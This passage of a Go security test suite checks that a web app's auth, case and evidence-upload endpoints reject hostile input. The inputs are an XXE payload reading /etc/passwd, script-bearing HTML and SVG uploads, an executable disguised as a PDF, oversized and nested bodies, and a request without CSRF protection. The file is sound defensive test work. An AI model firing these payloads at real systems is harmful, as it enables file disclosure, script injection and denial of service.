		{"JSON array", "POST", "/api/v1/auth/register", []byte(`[1,2,3]`), map[string]string{"Content-Type": "application/json"}, false, []int{400, 422}},
		{"wrong type", "POST", "/api/v1/auth/register", []byte(`{"name":{"a":1},"email":[]}`), map[string]string{"Content-Type": "application/json"}, false, []int{400, 422}},
		{"deeply nested JSON", "POST", "/api/v1/auth/register", []byte(strings.Repeat("[", 100000) + strings.Repeat("]", 100000)), map[string]string{"Content-Type": "application/json"}, false, []int{400, 422}},
		{"XML as JSON", "POST", "/api/v1/auth/login", []byte(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`), map[string]string{"Content-Type": "application/xml"}, false, []int{400, 415}},
		{"invalid UTF-8", "POST", "/api/v1/auth/register", []byte("{\"name\":\"\xff\xfe\",\"email\":\"a@b.c\",\"password\":\"x\"}"), map[string]string{"Content-Type": "application/json"}, false, []int{400, 422}},
		{"malformed multipart to a page", "POST", "/register", mpBad, pageHdr("multipart/form-data; boundary=xyz"), true, []int{400, 415}},
		{"multipart without boundary", "POST", "/register", []byte("--\r\n"), pageHdr("multipart/form-data"), true, []int{400, 415}},
		{"multipart to the JSON API", "POST", "/api/v1/auth/login", mpBad, map[string]string{"Content-Type": "multipart/form-data; boundary=xyz"}, false, []int{400, 415}},
		{"2,000-part multipart to a page", "POST", "/register", mp2000, pageHdr(mpCT), true, []int{400, 413, 415, 422}},
		{"2,000-part multipart to the API", "POST", fmt.Sprintf("/api/v1/cases/%d/withdraw", id), mp2000, bearer(mpCT), false, []int{400, 413, 415}},
	}
	for _, bc := range cases {
		attack(t, bc.name, func(t *testing.T) {
			var ck []*http.Cookie
			if bc.page {
				ck = append(append(ck, session...), csrf...)
			}
			start := time.Now()
			st, body, _ := s.req(t, bc.method, bc.path, bc.body, bc.hdr, ck...)
			ok := false
			for _, w := range bc.want {
				ok = ok || st == w
			}
			if !ok {
				t.Fatalf("status %d, want one of %v: %.300s", st, bc.want, body)
			}
			if strings.Contains(body, "goroutine") || strings.Contains(body, "runtime error") {
				t.Fatalf("internal detail in the reply: %.300s", body)
			}
			t.Logf("answered %d in %v", st, time.Since(start).Round(time.Millisecond))
		})
	}
	// Evidence uploads: hostile multipart and hostile files.
	draft := buildCase(t, s.f, p, s.f.Clerk(t), s.f.Judge(t), s.f.Defendant(t), models.StatusDraft, completeComplaint())
	upload := fmt.Sprintf("/api/v1/cases/%d/evidence", draft)
	file := func(name, content string) ([]byte, string) {
		var buf bytes.Buffer
		mw := multipart.NewWriter(&buf)
		_ = mw.WriteField("title", "Hostile file")
		fw, _ := mw.CreateFormFile("file", name)
		_, _ = io.WriteString(fw, content)
		_ = mw.Close()
		return buf.Bytes(), mw.FormDataContentType()
	}
	htmlFile, htmlCT := file("page.html", "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>")
	svgFile, svgCT := file("image.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`)
	exeFile, exeCT := file("report.pdf", "MZ\x90\x00 this is not a PDF")
	uploads := []bodyCase{
		{"malformed multipart to evidence", "POST", upload, mpBad, bearer("multipart/form-data; boundary=xyz"), false, []int{400, 415}},
		{"2,000-part multipart to evidence", "POST", upload, mp2000, bearer(mpCT), false, []int{400, 413, 415, 422}},
		{"JSON to evidence", "POST", upload, []byte(`{"file":"x"}`), bearer("application/json"), false, []int{400, 415}},
		{"HTML disguised as evidence", "POST", upload, htmlFile, bearer(htmlCT), false, []int{415}},
		{"SVG with script as evidence", "POST", upload, svgFile, bearer(svgCT), false, []int{415}},
		{"executable named .pdf", "POST", upload, exeFile, bearer(exeCT), false, []int{415}},
		{"page upload without CSRF", "POST", fmt.Sprintf("/cases/%d/complaint/evidence", draft), htmlFile, map[string]string{"Content-Type": htmlCT}, true, []int{403}},
	}
	for _, bc := range uploads {
		attack(t, bc.name, func(t *testing.T) {
			var ck []*http.Cookie
			if bc.page {
				ck = session // no CSRF cookie or token
			}
			st, body, _ := s.req(t, bc.method, bc.path, bc.body, bc.hdr, ck...)
			ok := false
			for _, w := range bc.want {
				ok = ok || st == w
			}
			if !ok {
				t.Fatalf("status %d, want one of %v: %.300s", st, bc.want, body)
			}
		})
	}
	attack(t, "evidence download is an attachment, never sniffed", func(t *testing.T) {
		evs, _ := s.f.Store.EvidenceList(context.Background(), draft)
		if len(evs) != 1 {
			t.Fatalf("%d evidence files after the hostile uploads, want the fixture's one", len(evs))
		}
		st, _, h := s.req(t, "GET", fmt.Sprintf("%s/%d/file", upload, evs[0].ID), nil, bearer(""))
		if st != 200 || !strings.HasPrefix(h.Get("Content-Disposition"), "attachment") || h.Get("X-Content-Type-Options") != "nosniff" {
			t.Fatalf("status %d, Content-Disposition %q, nosniff %q", st, h.Get("Content-Disposition"), h.Get("X-Content-Type-Options"))
		}
	})
	// The case is untouched by all of the above.
	c, err := s.f.Store.CaseFor(context.Background(), p, id)
	if err != nil || c.Status != models.StatusSubmitted {
		t.Fatalf("case after the attacks: %+v %v", c, err)
	}
}
